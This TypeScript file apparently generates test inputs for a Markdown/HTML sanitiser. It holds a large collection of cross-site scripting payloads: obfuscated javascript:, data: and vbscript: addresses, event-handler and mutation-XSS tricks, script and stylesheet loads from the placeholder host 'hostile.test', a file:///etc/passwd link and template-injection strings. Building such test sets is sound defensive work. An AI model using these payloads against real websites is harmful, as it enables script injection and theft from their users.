import { MARKDOWN_POSITIONS } from "./markdown-positions"
import { OWN_WORDS } from "./own-words"

/**
 * Texts that could smuggle code into a page, made systematically: what runs × how it is written × where it is. Each would call
 * `alert`, or load from another host.
 */
type Vector = { name: string; markdown: string }

const CODE = "alert(1)"
const HOST = "https://hostile.test"

/** Ways to write an address that runs code. */
export const ADDRESSES: Record<string, string> = {
  plain: `javascript:${CODE}`,
  capitals: `JaVaScRiPt:${CODE}`,
  "leading space": ` javascript:${CODE}`,
  "leading control character": `&#1;javascript:${CODE}`,
  "decimal entities": `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CODE}`,
  "hexadecimal entities": `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${CODE}`,
  "entities without semicolons": `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${CODE}`,
  "named colon": `javascript&colon;${CODE}`,
  "tab inside": `java&#9;script:${CODE}`,
  "named tab inside": `java&Tab;script:${CODE}`,
  "line feed inside": `java&#10;script:${CODE}`,
  "named line feed inside": `java&NewLine;script:${CODE}`,
  "carriage return inside": `java&#13;script:${CODE}`,
  "null inside": `java&#0;script:${CODE}`,
  "percent encoding": `javascript:%61%6C%65%72%74(1)`,
  "encoded scheme": `%6A%61%76%61%73%63%72%69%70%74:${CODE}`,
  comment: `javascript://%0A${CODE}`,
  "template string": "javascript:alert`1`",
  "inside another scheme": `feed:javascript:${CODE}`,
  "view source": `view-source:javascript:${CODE}`,
  vbscript: "vbscript:MsgBox(1)",
  livescript: `livescript:${CODE}`,
  mocha: `mocha:${CODE}`,
  "data html": `data:text/html,<script>${CODE}</script>`,
  "data html in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data svg":
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
  "data without type": `data:,${CODE}`,
  "data xhtml": `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${CODE}</x:script>`,
  blob: "blob:https://hostile.test/1",
  file: "file:///etc/passwd",
}

/** Ways to say in Markdown or HTML where a link leads. */
const LINKS: Record<string, (address: string) => string> = {
  link: (address) => `[x](${address.trim()})`,
  "link in angles": (address) => `[x](<${address}>)`,
  reference: (address) => `[x][r]\n\n[r]: ${address.trim()}`,
  autolink: (address) => `<${address}>`,
  "HTML link": (address) => `<a href="${address}">x</a>`,
  "HTML link without quotes": (address) => `<a href=${address}>x</a>`,
}

/** Elements whose attributes load or run an address. */
const LOADERS: Record<string, (address: string) => string> = {
  iframe: (address) => `<iframe src="${address}"></iframe>`,
  frame: (address) => `<frameset><frame src="${address}"></frameset>`,
  object: (address) => `<object data="${address}"></object>`,
  embed: (address) => `<embed src="${address}">`,
  form: (address) => `<form action="${address}"><button>x</button></form>`,
  button: (address) => `<form><button formaction="${address}">x</button></form>`,
  base: (address) => `<base href="${address}//">`,
  meta: (address) => `<meta http-equiv="refresh" content="0; url=${address}">`,
  stylesheet: (address) => `<link rel="stylesheet" href="${address}">`,
  area: (address) => `<map name="m"><area href="${address}" shape="default"></map>`,
  image: (address) => `<input type="image" src="${address}">`,
  background: (address) => `<table background="${address}"><tr><td>x</td></tr></table>`,
  video: (address) => `<video poster="${address}" src="${address}"></video>`,
  svg: (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  use: (address) => `<svg><use href="${address}"/></svg>`,
  math: (address) => `<math><maction xlink:href="${address}" actiontype="statusline">x</maction></math>`,
  style: (address) => `<div style="background:url('${address}')">x</div>`,
  "style element": (address) => `<style>@import url("${address}")</style>`,
}

const EVENTS =
  "abort auxclick beforetoggle blur click contextmenu copy drag error focus focusin input invalid keydown load " +
  "loadstart mouseenter mouseover paste pointerdown pointerenter pointerrawupdate scroll scrollend toggle " +
  "transitionend animationstart wheel cuechange"

/** Elements that fire events by themselves, or easily. */
const FIRING: Record<string, (handler: string) => string> = {
  paragraph: (handler) => `<p ${handler}="${CODE}" tabindex="0" autofocus>x</p>`,
  link: (handler) => `<a href="#" ${handler}='${CODE}' autofocus>x</a>`,
  svg: (handler) => `<svg ${handler}=${CODE}><circle r="9"/></svg>`,
  details: (handler) => `<details open ${handler}="${CODE}"><summary>x</summary>y</details>`,
}

/** Where else a text may stand. */
const PLACES: Record<string, (text: string) => string> = {
  heading: (text) => `## ${text}`,
  list: (text) => `- ${text}`,
  task: (text) => `- [ ] ${text}`,
  quote: (text) => `> ${text}`,
  table: (text) => `| a |\n| - |\n| ${text} |`,
  footnote: (text) => `x[^n]\n\n[^n]: ${text}`,
  emphasis: (text) => `**${text}**`,
  "link text": (text) => `[${text}](https://hostile.test/page)`,
}

/** Elements in which a script or a handler has another meaning than in others. */
const ELEMENTS =
  "applet audio body dialog div fencedframe html image input isindex keygen marquee noembed noscript object plaintext " +
  "portal select svg template textarea title video x xmp ı"

const STYLES = [`width:expression(${CODE})`, `behavior:url(${HOST}/x.htc)`, `-moz-binding:url(${HOST}/x.xml#x)`]

/** What is known to have got through one sanitiser or another. */
const KNOWN: readonly string[] = [
  ...ELEMENTS.split(" ").flatMap((element) => [
    `<${element}><script>${CODE}</script></${element}>`,
    `<${element} contenteditable open autofocus onfocus=${CODE} onload=${CODE} src=${HOST}/x>x</${element}>`,
  ]),
  ...STYLES.map((style) => `<div style="${style}">x</div>`),
  `<script>${CODE}</script>`,
  `<SCRIPT SRC=${HOST}/x.js></SCRIPT>`,
  `<script/src="${HOST}/x.js"></script>`,
  `<script\n>${CODE}</script\n>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<<script>${CODE}//<</script>`,
  `<script>${CODE}`,
  `</p><script>${CODE}</script><p>`,
  `<!--><script>${CODE}</script>-->`,
  `<!-- --!><script>${CODE}</script>`,
  `<![CDATA[<script>${CODE}</script>]]>`,
  `<?xml version="1.0"?><script>${CODE}</script>`,
  `<noscript><p title="</noscript><script>${CODE}</script>">`,
  `<title></title><script>${CODE}</script>`,
  `<template shadowrootmode="open"><script>${CODE}</script></template>`,
  `<svg><script href="data:,${CODE}"/></svg>`,
  `<svg><style><img src=x onerror=${CODE}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CODE}>">`,
  `<svg><foreignObject><iframe srcdoc="<script>${CODE}</script>"></iframe></foreignObject></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName="href" to="javascript:${CODE}"/></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${CODE} /><text>x</text></a></svg>`,
  `<math><mi//xlink:href="data:x,<script>${CODE}</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${CODE}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
  `<table><caption><svg><title><style><img src=x onerror=${CODE}></style></title></svg></caption></table>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CODE}&lt;/script&gt;"></iframe>`,
  `<img src="x" onerror="${CODE}">`,
  `<img/src="x"/onerror=${CODE}>`,
  `<img src=x:x onerror=${CODE}//`,
  `<img """><script>${CODE}</script>">`,
  `<image src=x onerror=${CODE}>`,
  `<img src="x\` \`<script>${CODE}</script>"\` \`>`,
  `<img srcset="x 1x" onerror=${CODE}>`,
  `<picture><source srcset="x"><img onerror=${CODE}></picture>`,
  `<video><source onerror=${CODE}></video>`,
  `<p popover id=q onbeforetoggle=${CODE}>x</p><button popovertarget=q>y</button>`,
  `<style>@import'${HOST}/x.css';</style>`,
  `<style>*{background:url(${HOST}/x)}</style>`,
  `<link rel=prefetch href=${HOST}/x>`,
  `<meta charset="UTF-7">+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
  `<a href="#" id="___gatsby" name="pagePath">x</a>`,
  `<form id="location"><input name="href"></form>`,
  `<p id="main-content" class="navbar">x</p>`,
  `<a href="//hostile.test/\\@x" ping="${HOST}/ping" target="_blank">x</a>`,
  `<p is="x-y" slot="z" data-tooltip="<img src=x onerror=${CODE}>">x</p>`,
  `<script type="module">import "${HOST}/x.js"</script>`,
  `<script type="importmap">{"imports":{"a":"${HOST}/x.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${HOST}/x"]}]}</script>`,
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"onload=alert(1)\nx\n```',
  "```<img src=x onerror=alert(1)>\nx\n```",
  `\\<script>${CODE}\\</script>`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `[x](https://hostile.test/"onmouseover="${CODE})`,
  `[x](https://hostile.test 'x" onclick="${CODE}')`,
  `[a](javascript:${CODE}//https://hostile.test)`,
  `[x]: javascript:${CODE}\n\n[x]`,
  `[<img src=x onerror=${CODE}>](https://hostile.test)`,
  `<https://hostile.test/<script>${CODE}</script>>`,
  `www.hostile.test/"onmouseover=${CODE}`,
  `x^[inline <script>${CODE}</script> note]`,
  `## <img src=x onerror=${CODE}> {#"onclick=${CODE}}`,
  `| <script>${CODE}</script> |\n| - |\n| <img src=x onerror=${CODE}> |`,
  `$$\\href{javascript:${CODE}}{x}$$`,
  `{{constructor.constructor('${CODE}')()}}`,
  `<%= ${CODE} %>`,
]

export const VECTORS: readonly Vector[] = distinct([
  ...Object.entries(LINKS).flatMap(([way, link]) =>
    Object.entries(ADDRESSES).map(([name, address]) => ({ name: `${way}: ${name}`, markdown: link(address) })),
  ),
  ...Object.entries(LOADERS).flatMap(([element, load]) =>
    ["plain", "data html", "tab inside"].map((name) => ({
      name: `${element}: ${name}`,
      markdown: load(ADDRESSES[name] ?? ""),
    })),
  ),
  ...Object.entries(FIRING).flatMap(([element, fire]) =>
    EVENTS.split(" ").map((event) => ({ name: `${element}: on${event}`, markdown: fire(`on${event}`) })),
  ),
  ...Object.entries(PLACES).flatMap(([place, put]) =>
    [`<img src=x onerror=${CODE}>`, `<script>${CODE}</script>`, `[x](javascript:${CODE})`].map((text) => ({
      name: `in a ${place}: ${text}`,
      markdown: put(text),
    })),
  ),
  ...Object.entries(MARKDOWN_POSITIONS).flatMap(([position, put]) =>
    Object.entries(OWN_WORDS).map(([name, text]) => ({ name: `${position}: ${name}`, markdown: put(text) })),
  ),
  ...KNOWN.map((markdown) => ({ name: markdown, markdown })),
])

/** Images in Markdown have to be files or https addresses: these are refused with file and line. */
export const PICTURE_VECTORS: readonly Vector[] = Object.entries(ADDRESSES)
  .filter(([, address]) => !address.includes("<"))
  .map(([name, address]) => ({ name, markdown: `![x](<${address}>)` }))

function distinct(vectors: readonly Vector[]): readonly Vector[] {
  return [...new Map(vectors.map((vector) => [vector.markdown, vector])).values()]
}
